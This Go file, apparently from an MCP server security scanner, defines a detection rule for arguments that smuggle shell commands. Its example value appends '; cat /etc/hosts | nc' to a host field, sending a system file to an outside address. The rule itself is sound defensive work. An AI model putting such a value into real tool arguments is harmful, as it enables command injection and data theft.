package detect

import (
	"github.com/mcp-watchdog/mcp-watchdog/internal/finding"
	"github.com/mcp-watchdog/mcp-watchdog/internal/shell"
)

// command_injection: a value that is no command (a path, a host, a branch, an
// id) goes on with one behind a shell's separator or holds one in a
// substitution. Servers that put arguments into command lines have been taken
// over this way again and again (CVE-2025-53967 Framelink Figma, CVE-2025-5277
// aws-mcp-server, and many more). Prose, code and queries use the same
// characters every day, so there it takes more than a separator.

var commandInjection = &finding.Rule{
	ID: "command_injection", Class: "command_injection", Severity: finding.High,
	Title:     "an argument smuggles in a command",
	Catches:   "Paths, hosts, URLs, names and identifiers that go on with a command behind ; | & && || or a line break, also percent-encoded, or hold one in $( ) or backticks; commands that begin with a separator; expressions that reach for the operating system.",
	Example:   `{"host":"192.0.2.7; cat /etc/hosts | nc 198.51.100.4 80"}`,
	Misses:    "Commands of programs that nobody knows, in fields that may hold any text.",
	Exception: "File contents, code and SQL are not looked at; in a line of text for people a command has to do harm, and is reported as medium.",
}

// maxProse bounds the line of text for people that is looked at.
const maxProse = 400

func detectCommandInjection(a *Argument) {
	if a.Key {
		return
	}
	place := shell.Anything
	switch a.Use() {
	case written:
		if place = shell.Prose; a.Role()&ProseRole == 0 || a.Role()&(CodeRole|SQLRole) != 0 || a.End-a.Start > maxProse {
			return
		}
	case runShell:
		place = shell.Command
	case runCode:
		if text := a.Text(); a.Has&Round != 0 && (shell.Reaches(text) || a.is(expressionName) && a.Call.Purpose()&(Runs|Fetches) == 0 && shell.RunsSystem(text)) {
			a.smuggles(text, shell.Act{Level: shell.Bad, Why: "it is an expression that reaches for the operating system", End: len(text)})
		}
		place = shell.Command
	case searched:
		place = shell.Search
	case linked:
		place = shell.Address
	case plain:
		place = shell.Name
	}
	text := a.Text()
	if act, ok := shell.Injected(text, place); ok {
		a.smuggles(text, act)
	}
}

func (a *Argument) smuggles(text string, act shell.Act) {
	a.Report(finding.Finding{Rule: commandInjection, Severity: severityOf(act.Level), Why: act.Why, Seen: finding.Mask(around(text, act.Start, act.End))})
}
